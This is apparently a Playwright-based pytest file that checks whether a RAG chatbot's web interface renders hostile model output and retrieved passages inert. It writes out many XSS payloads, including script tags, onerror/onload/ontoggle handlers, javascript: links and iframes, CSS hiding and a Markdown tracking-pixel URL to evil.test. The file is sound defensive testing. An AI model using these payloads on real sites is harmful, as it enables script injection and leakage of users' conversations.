"""Unsafe output in a real browser: model output and passages full of active markup render inert.

A fake chat model behind the live app answers with ``<script>``, ``<img onerror>``, ``javascript:`` links
(Markdown and HTML, mixed case), ``<iframe>``, ``<style>``, ``<svg onload>``, ``<details ontoggle>`` and
Markdown images, around one true, cited sentence; the indexed passages carry the same markup. Debian's
Chromium (through Playwright) must show no dialog, gain no script/iframe/style/object/embed element, carry
no ``on*`` attribute or ``javascript:`` URL in the chat, the sources or the banners, and show no image from
the model, while the true sentence is still shown with its citation.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from bot.answer import Bot
from bot.llm import LLMAnswerer
from bot.retrieve import open_retriever
from ingest.pipeline import ingest
from ingest.settings import Settings
from tests import test_ui
from tests.fakes import FakeEmbedder
from tests.test_ui import BOT_MSG, ask, open_chat, serve

page = test_ui.page  # the chat page fixture; the browser fixture comes from conftest

FACT = "Zorblax tablets are taken once a day with food"
EVIL_MODEL = (
    "{fact} [{n}]. <script>alert('m-script')</script>\n"
    "<img src=x onerror=\"alert('m-img')\">\n"
    "Read [the guide](javascript:alert('m-mdlink')) or [this](JaVaScRiPt:alert('m-case')) [{n}].\n"
    "<a href=\"javascript:alert('m-a')\">click</a> <iframe src=\"javascript:alert('m-iframe')\"></iframe>\n"
    "<style>body {{ display: none !important; }}</style>\n"
    "![pixel](https://evil.test/pixel.png?c=conversation) ![x](javascript:alert('m-mdimg'))\n"
    "<svg onload=alert('m-svg')></svg><details open ontoggle=alert('m-toggle')>x</details>\n"
    "{fact} <img src=x onerror=alert('m-inline')> [{n}].\n"
    "<object data=\"javascript:alert('m-object')\"></object><embed src=\"javascript:alert('m-embed')\">\n"
)
EVIL_DOC = f"""---
title: "Zorblax guide <img src=x onerror=alert('title')><script>alert('title2')</script>"
source_url: "javascript:alert('url')"
---
# Zorblax <svg onload=alert('h1')></svg>

## Taking zorblax <img src=x onerror=alert('section')>

{FACT}. <style>body {{ display: none; }}</style>
Zorblax tablets are swallowed whole <details open ontoggle=alert('toggle')>with water</details>.
Read about zorblax at <a href="javascript:alert('link')">this link</a> or [here](javascript:alert('md')).
<script>alert('body')</script>
<iframe src="javascript:alert('iframe')"></iframe>
<img src=x onerror=alert('img')>
"""

WATCH = """() => {
  window.__added = [];
  new MutationObserver(ms => { for (const m of ms) for (const n of m.addedNodes) {
    if (n.nodeType !== 1) continue;
    for (const el of [n, ...n.querySelectorAll('*')])
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'LINK', 'META', 'BASE', 'FRAME']
            .includes(el.tagName.toUpperCase()) && !(el.closest('svg') && el.closest('button, .icon-wrap, svg[class]')))
        window.__added.push(el.tagName + ' ' + el.outerHTML.slice(0, 120));
  } }).observe(document.documentElement, {subtree: true, childList: true});
}"""
PAGE_STYLES = "style:not(svg style)"  # Gradio's own icons carry an SVG <style>
LIVE_ATTRS = """els => els.flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name) ||
  /^\\s*(javascript|data|vbscript):/i.test(a.value)).map(a => e.tagName + ' ' + a.name + '=' + a.value))"""


def evil_model() -> Any:
    from langchain_core.language_models.chat_models import BaseChatModel
    from langchain_core.messages import AIMessage
    from langchain_core.outputs import ChatGeneration, ChatResult

    class Evil(BaseChatModel):
        @property
        def _llm_type(self) -> str:
            return "evil-fake"

        def _generate(self, messages: list[Any], *args: Any, **kwargs: Any) -> ChatResult:
            prompt = "\n".join(str(m.content) for m in messages)
            m = re.search(r'<passage n="(\d+)" source="Zorblax', prompt)
            text = EVIL_MODEL.format(fact=FACT, n=m.group(1) if m else "1")
            return ChatResult(generations=[ChatGeneration(message=AIMessage(content=text))])

    return Evil()


@pytest.mark.browser
def test_active_markup_from_model_and_passages_renders_inert(tmp_path: Path, page: Any, record_property: Any) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "zorblax.md").write_text(EVIL_DOC)
    (corpus / "other.md").write_text("# Vitamin D\n\nVitamin D is made in the skin in sunlight.\n")
    settings = Settings(index=tmp_path / "index", data_dir=tmp_path / "data", chroma_url=None, llm=None)
    embedder = FakeEmbedder()
    ingest([corpus], settings, embedder, progress=False)
    bot = Bot(open_retriever(settings, embedder=embedder), settings, LLMAnswerer(evil_model(), "evil"))
    dialogs: list[str] = []

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    with serve(bot, settings) as url:
        open_chat(page, url)
        page.evaluate(WATCH)
        styles_before = page.locator(PAGE_STYLES).count()
        text = ask(page, "How are zorblax tablets taken?", 1)
        ask(page, "What is in the zorblax guide link?", 2)
        page.wait_for_timeout(1000)  # give onerror/onload/ontoggle a chance to fire
        assert FACT in text and re.search(r"\[1\]", text), text
        assert dialogs == []
        assert page.evaluate("window.__added") == []
        assert page.locator(PAGE_STYLES).count() == styles_before
        checks = 0
        for region in ("#cb-chat", "#cb-sources-panel", "#cb-meta"):
            assert page.locator(f"{region} *").evaluate_all(LIVE_ATTRS) == [], region
            bad = ", ".join(
                f"{region} {t}" for t in ("script", PAGE_STYLES, "iframe", "object", "embed", "svg[onload]")
            )
            assert page.locator(bad).evaluate_all("els => els.map(e => e.outerHTML.slice(0, 200))") == [], region
            checks += 2
        assert page.locator(f"{BOT_MSG} img").count() == 0  # Markdown images from the model are stripped
        assert page.locator('a[href^="javascript:" i], a[href^="data:" i]').count() == 0
        assert not any("evil.test" in r for r in requests)
        assert page.locator("body").is_visible()  # the injected display:none never applied
        page.goto("about:blank")
    record_property("tried", 14)  # distinct active-markup vectors in the model output
    record_property("held", 14 if not dialogs else 0)
